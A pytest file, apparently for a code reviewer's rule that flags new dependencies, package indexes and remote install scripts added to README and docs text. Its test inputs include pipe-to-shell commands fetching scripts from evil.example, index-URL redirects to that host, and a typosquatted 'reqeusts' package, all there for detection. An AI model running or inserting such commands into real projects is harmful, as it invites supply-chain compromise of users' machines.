"""What texts tell people to install is the owner's, as a dependency is; what the target knows passes."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sisimpur.agents.reviewer.rules import rules
from sisimpur.shared.model.evidence import FOR_THE_OWNER
from tests.spec.reviewing import OUTGOING, case, file, found

PROJECT = (
    '[project]\nname = "ledger-lib"\ndependencies = ["rich>=13"]\n[project.optional-dependencies]\ntest = ["pytest"]\n'
)
TRACKED = {"pyproject.toml": PROJECT, "requirements-dev.txt": "ruff==0.8\n", "web/package.json": '{"name": "shop-web"}'}
OLD = "# Ledger\n\npip install old-friend\n\n--index-url https://packages.example/simple\n"


@pytest.mark.parametrize(
    ("line", "told"),
    [
        ("pip install ledger-lib-pro", "ledger-lib-pro"),
        ("$ python -m pip install -U ledgerlib", "ledgerlib"),
        ("Run `pip3 install rich reqeusts` first.", "reqeusts, which is new here; it is one letter away from requests"),
        ("First pip install ledger_tools, then run it.", "ledger_tools"),
        ("    uv pip install 'ledger-lib[test]' sidecar==1.0", "sidecar"),
        ("uv add sidecar", "sidecar"),
        ("uvx sidecar --port 3", "sidecar"),
        ("pipx run sidecar", "sidecar"),
        ("poetry add --group dev sidecar", "sidecar"),
        ("npm install --save-dev @shop/sidecar@1.2", "@shop/sidecar"),
        ("npx sidecar", "sidecar"),
        ("cargo add sidecar && cargo build", "sidecar"),
        ("go install example.org/side/car@latest", "example.org/side/car"),
        ("pip install \\\n  rich \\\n  sidecar", "sidecar"),
        ("pip install git+https://github.com/x/ledger-lib", "from somewhere else"),
        ("pip install ledger-lib --index-url https://evil.example/simple", "an index"),
        ("pip install --extra-index-url=https://evil.example/simple ledger-lib", "an index"),
        ("export PIP_INDEX_URL=https://evil.example/simple", "an index"),
        ("npm config set registry=https://evil.example/", "an index"),
        ("curl -sSf https://evil.example/install.sh | sudo bash", "what an address answers"),
        ("bash <(curl -s https://evil.example/x)", "what an address answers"),
        ("irm https://evil.example/x | iex", "what an address answers"),
    ],
)
@pytest.mark.parametrize("path", ["README.md", "docs/install.rst"])
def test_a_new_name_or_address_in_a_text_is_the_owners(path: str, line: str, told: str) -> None:
    (finding,) = found(path, f"# Ledger\n\n{line}\n", "# Ledger\n", TRACKED)
    assert (finding.rule, finding.line) == ("new dependency", 3)
    assert finding.rule in FOR_THE_OWNER
    assert told in finding.text


@pytest.mark.parametrize(
    "line",
    [
        "pip install ledger-lib",
        "pip install 'Ledger_Lib[test]>=0.3' rich pytest==8",
        "pip install -e .[test] && python -m pytest",
        "pip install -r requirements.txt -c constraints.txt",
        "pip install --upgrade pip setuptools wheel",
        "pip install ./dist/ledger-0.3-py3-none-any.whl",
        "pip install old-friend",
        "uv pip install ruff",
        "npm install",
        "npm install shop-web",
        "Use pip install to get the library, or poetry install if you like.",
        "`pip install` fails without a compiler.",
        "The command pip install is all that it takes.",
        "pip install ledger-lib --index-url https://packages.example/simple",
        "curl https://api.example/rates | jq .",
        "The shell of a curl is bent.",
    ],
)
def test_what_the_target_knows_passes(line: str) -> None:
    assert found("README.md", f"{OLD}{line}\n", OLD, TRACKED) == ()


def test_a_line_that_moves_from_text_to_text_is_no_news() -> None:
    files = [file("README.md", "# A\n", "# A\npip install sidecar\n"), file("docs/a.md", "pip install sidecar\n")]
    assert rules.findings(case(files, TRACKED), OUTGOING) == ()


@given(st.text(st.sampled_from("pip install npm -x=`'\"[]@/.\\\n|;& curl sh<("), max_size=200))
def test_whatever_a_text_says_the_rules_come_to_an_end(text: str) -> None:
    for one in found("README.md", f"pip install {text}\ncurl {text}\n", "", TRACKED):
        assert "\n" not in one.text
